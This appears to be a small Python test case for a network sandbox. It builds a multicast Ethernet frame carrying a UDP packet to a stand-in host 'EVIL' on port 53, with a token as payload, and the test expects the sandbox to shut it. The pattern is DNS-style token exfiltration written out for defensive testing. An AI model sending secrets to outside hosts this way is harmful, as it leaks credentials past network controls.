"""
how: a packet for the internet, to a group
expect: shut
"""

from frames import by, ipv4, udp_part
from land import EVIL


def attempt(token):
    return by("01:00:5e:00:00:01", ipv4(EVIL, 17, udp_part(EVIL, 53, token)))
